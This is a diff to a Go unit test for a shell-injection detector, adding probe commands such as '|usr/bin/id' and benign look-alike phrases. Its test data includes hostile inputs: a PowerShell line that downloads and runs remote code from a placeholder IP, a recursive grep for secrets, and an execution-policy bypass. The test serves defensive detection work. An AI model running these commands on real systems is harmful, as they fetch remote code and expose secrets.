@@ -108,6 +108,7 @@ func TestShellClassRules(t *testing.T) {
 		"Get-ChildItem -Path C:\\Users", "; Set-ExecutionPolicy -Scope CurrentUser Bypass", "|Get-LocalUser",
 		"& Start-Service -Name spooler", ";vi x -c ':!uname -a'", "x \\!whoami", "; lynx -dump http://203.0.113.9", "| egrep -r secret /srv",
 		"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "$w = New-Object Net.WebClient",
+		"|usr/bin/id", ";bin/cat x", "which gcc", "; whereis nc", "man nmap", "command -v curl",
 		"Get-ChildItem", "; winget install x", "| git clone https://example.net/r", "; jq . /etc/hosts",
 	}
 	for _, v := range hits {
@@ -124,11 +125,22 @@ func TestShellClassRules(t *testing.T) {
 		"ps: see you", "time to go", "a \\n b", "eval is a word", "set the table", "set X=1 and Y=2",
 		"Get-together at noon", "set-up; add-on", "Write-off -5%", "Start-up & grow", "which one", "history of Rome",
 		"Note:!important", "wow\\!cool", ":!",
+		"which cat is yours", "man of the year", "type your name", "a bin/ folder", "see usr/bin/",
 		"$total = sum of items", "Get-WmiObject is a cmdlet name", "new-object oriented (design)",
 	}
 	for _, v := range miss {
 		if hasShellInjection(v) {
 			t.Errorf("%q: got true, want false", v)
+		}
+	}
+	for _, v := range []string{"DRIVERQUERY", "dnsdomainname", "getmac", "sw_vers"} {
+		if !isBareCommand(v) {
+			t.Errorf("isBareCommand(%q) = false, want true", v)
+		}
+	}
+	for _, v := range []string{"hostname", "driver", "domainname", "getmacaddress"} {
+		if isBareCommand(v) {
+			t.Errorf("isBareCommand(%q) = true, want false", v)
 		}
 	}
 	for _, v := range []string{"cmd.exe", "POWERSHELL.EXE", "calc.exe"} {
